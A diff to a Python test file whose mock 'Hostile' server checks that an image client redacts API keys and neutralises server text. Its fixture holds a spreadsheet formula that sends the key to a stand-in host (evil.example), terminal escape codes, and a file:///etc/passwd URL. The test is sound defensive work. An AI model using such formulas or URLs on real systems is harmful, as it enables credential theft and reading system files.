@@ -72,12 +72,13 @@ class Hostile(BaseHTTPRequestHandler):
         self.counts[prompt] += 1
         echo = {"x-request-id": f"req-{key}", "content-type": "application/json"}
         if "fail" in prompt:
-            error = {"message": f"bad key {key} in request", "type": key, "code": key, "param": key}
+            # "\udfff": a lone surrogate, legal as a JSON escape, not encodable as UTF-8
+            error = {"message": f"bad key {key} in \udfff", "type": key, "code": key, "param": key}
             self._send(400, json.dumps({"error": error}).encode(), echo)
             return
         port = self.server.server_address[1]
         item: dict[str, str] = {
-            "revised_prompt": f'=HYPERLINK("http://evil.example/{key}")\x07\x1b[31m'
+            "revised_prompt": f'=HYPERLINK("http://evil.example/{key}")\x07\x1b[31m\ud800'
         }
         if prompt == "file url":
             item["url"] = "file:///etc/passwd"
@@ -139,10 +140,14 @@ def test_the_key_never_reaches_disk_or_terminal_and_server_text_is_data(
     assert m.loc["ok", "status"] == "succeeded"
     assert m.loc["ok", "request_id"] == "req-[redacted]"
     # spreadsheet-safe: control characters gone, the formula shown as text
-    assert m.loc["ok", "revised_prompt"] == ('\'=HYPERLINK("http://evil.example/[redacted]")[31m')
+    # a lone surrogate is shown as its escape, written everywhere, and breaks nothing
+    assert m.loc["ok", "revised_prompt"] == (
+        '\'=HYPERLINK("http://evil.example/[redacted]")[31m\\ud800'
+    )
     raw = pd.read_parquet(out / "manifest.parquet").set_index("job_id")
-    assert raw.loc["ok", "revised_prompt"].endswith("\x07\x1b[31m")
+    assert raw.loc["ok", "revised_prompt"].endswith("\x07\x1b[31m\\ud800")
     assert m.loc["bad", "status"] == "failed" and "[redacted]" in m.loc["bad", "error_message"]
+    assert m.loc["bad", "error_message"].endswith("in \\udfff")
 
     # url results: one that can never work fails without generating again; a transient
     # download failure is retried as a download; messages name the image URL
